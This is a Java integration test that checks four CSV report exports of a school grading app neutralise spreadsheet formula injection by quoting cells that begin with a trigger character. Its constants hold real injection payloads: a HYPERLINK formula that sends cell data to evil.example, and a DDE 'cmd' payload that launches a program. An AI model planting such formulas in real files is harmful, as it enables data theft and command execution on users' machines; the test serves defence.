package app.cascade.reports;

import app.cascade.CascadeIntegrationTest;
import app.cascade.catalog.CatalogLock;
import app.cascade.catalog.DistrictFixture;
import app.cascade.catalog.ItemSpec;
import app.cascade.catalog.TestUsers;
import app.cascade.grading.LockType;
import app.cascade.push.PushCommand;
import app.cascade.push.PushReportExporter;
import app.cascade.push.PushRuns;
import app.cascade.push.PushService;
import app.cascade.push.engine.PushMode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.EnumSet;
import java.util.List;
import java.util.UUID;

import static app.cascade.catalog.ItemSpec.category;
import static app.cascade.catalog.ItemSpec.task;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV formula injection: a district whose catalog, school, course, section, teacher and categories are named like
 * spreadsheet formulas, one per trigger character of OWASP's list. Every report's CSV (push report, Residual Data,
 * Course Audit, Course Master Awaiting Push) writes each of them with a single quote in front, and no cell of any of
 * them starts with a trigger.
 */
@CascadeIntegrationTest
class CsvInjectionIT {

    static final String EQUALS = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    static final String PLUS = "+SUM(1+1)*cmd|' /C calc'!A0";
    static final String AT = "@SUM(1+1)";
    static final String MINUS = "-1+1";
    static final String TAB = "\tx";
    static final String CR = "\rx";
    static final List<String> PAYLOADS = List.of(EQUALS, PLUS, AT, MINUS, TAB, CR);
    static final String TRIGGERS = "=+-@\t\r";

    @Autowired
    ApplicationContext context;
    @Autowired
    PushService pushes;
    @Autowired
    PushReportExporter pushReports;
    @Autowired
    ResidualReportService residual;
    @Autowired
    CourseAuditService audit;
    @Autowired
    AwaitingPushService awaiting;

    DistrictFixture d;
    long year;
    long catalog;

    /**
     * Catalog {@code \tx}; school {@code =HYPERLINK(...)}; master and course {@code @SUM(1+1)} named
     * {@code +SUM(...)}: the master has a category per payload, which the course lacks (Course Audit); section
     * {@code -1+1} of teacher {@code \rx} has a teacher category per payload with an assignment (residual after an
     * overwrite: push report and Residual Data); the master's change log names each payload (Awaiting Push).
     */
    @BeforeEach
    void district() {
        d = DistrictFixture.in("alpha", context).wipe();
        year = d.year("26-27", LocalDate.of(2026, 8, 1), LocalDate.of(2027, 6, 30));
        catalog = d.catalog(TAB, CatalogLock.values());
        long school = d.school("LHS", EQUALS, catalog);
        long calendar = d.calendar(school, year, "Q1", "Q2");
        DistrictFixture.MasterFixture master = d.master(catalog, AT, PLUS).with(task("S1", "Semester 1"));
        master.with(PAYLOADS.stream().map(p -> category(p, "10")).toArray(ItemSpec[]::new));
        DistrictFixture.CourseFixture course = d.course(calendar, master)
                .copyFromMaster(master.itemId(app.cascade.grading.ItemType.TASK, "S1"));
        DistrictFixture.SectionFixture section = course.section(MINUS, CR);
        for (String payload : PAYLOADS) {
            section.teacherItem(category(payload + " kept", "5"));
            UUID item = d.query("select id from section_item where section_id = ? and name = ?", UUID.class,
                    section.id(), payload + " kept");
            d.assignment(section.id(), item, null);
            d.update("insert into master_change (master_id, item_type, item_label, change, changed_by)"
                    + " values (?, 'CATEGORY', ?, 'ADDED', 'alpha.admin')", master.id(), payload);
        }
    }

    @AfterEach
    void signOut() {
        TestUsers.signOut();
    }

    @Test
    void the_push_report_csv_neutralises_every_trigger() throws Exception {
        UUID request = overwrite();

        List<List<String>> csv = csv(pushReports.csv(request));

        assertNoCellStartsWithATrigger(csv);
        assertThat(column(csv, "Item")).containsAll(quoted(" kept"));
        assertThat(column(csv, "School")).contains("'" + EQUALS);
        assertThat(column(csv, "Course number")).contains("'" + AT);
        assertThat(column(csv, "Course name")).contains("'" + PLUS);
        assertThat(column(csv, "Section")).contains("'" + MINUS);
    }

    @Test
    void the_residual_data_csv_neutralises_every_trigger() throws Exception {
        overwrite();

        List<List<String>> csv = csv(residual.csv(ReportFilter.all()));

        assertNoCellStartsWithATrigger(csv);
        assertThat(column(csv, "Item")).containsExactlyInAnyOrderElementsOf(quoted(" kept"));
        assertThat(column(csv, "School")).containsOnly("'" + EQUALS);
        assertThat(column(csv, "Teacher")).containsOnly("'" + CR);
        // the dependents are numbers and stay numbers
        assertThat(column(csv, "Assignments")).containsOnly("1");
    }

    @Test
    void the_course_audit_csv_neutralises_every_trigger() throws Exception {
        TestUsers.signIn(context, "alpha.viewer");

        List<List<String>> csv = csv(audit.csv(ReportFilter.all()));

        assertNoCellStartsWithATrigger(csv);
        assertThat(column(csv, "Item")).containsAll(quoted(""));
        assertThat(column(csv, "School")).containsOnly("'" + EQUALS);
        assertThat(column(csv, "Course")).containsOnly("'" + AT + " " + PLUS);
        assertThat(column(csv, "Master")).containsOnly("'" + AT);
    }

    @Test
    void the_awaiting_push_csv_neutralises_every_trigger() throws Exception {
        TestUsers.signIn(context, "alpha.viewer");

        List<List<String>> csv = csv(awaiting.csv(ReportFilter.all()));

        assertNoCellStartsWithATrigger(csv);
        assertThat(column(csv, "Item")).containsExactlyInAnyOrderElementsOf(quoted(""));
        assertThat(column(csv, "Catalog")).containsOnly("'" + TAB);
        assertThat(column(csv, "Master")).containsOnly("'" + AT + " " + PLUS);
        assertThat(column(csv, "Linked courses pending")).containsOnly("1");
    }

    /** An overwrite of the catalog: the teacher categories with assignments stay, residual; the viewer reads. */
    private UUID overwrite() {
        TestUsers.signIn(context, "alpha.push");
        UUID request = PushRuns.of(context).run(PushCommand.catalog(catalog, year, PushMode.OVERWRITE, true,
                EnumSet.allOf(LockType.class)));
        TestUsers.signIn(context, "alpha.viewer");
        return request;
    }

    private static List<String> quoted(String suffix) {
        return PAYLOADS.stream().map(p -> "'" + p + suffix).toList();
    }

    private static void assertNoCellStartsWithATrigger(List<List<String>> csv) {
        assertThat(csv).hasSizeGreaterThan(1);
        assertThat(csv.stream().flatMap(List::stream))
                .noneMatch(cell -> !cell.isEmpty() && TRIGGERS.indexOf(cell.charAt(0)) >= 0);
    }

    private static List<String> column(List<List<String>> csv, String header) {
        int index = csv.getFirst().indexOf(header);
        assertThat(index).as("column %s in %s", header, csv.getFirst()).isNotNegative();
        return csv.stream().skip(1).map(row -> row.get(index)).toList();
    }

    private static List<List<String>> csv(byte[] bytes) throws Exception {
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        try (CSVParser parser = CSVFormat.EXCEL.parse(new StringReader(text.substring(1)))) {
            return parser.getRecords().stream().map(CSVRecord::toList).toList();
        }
    }
}
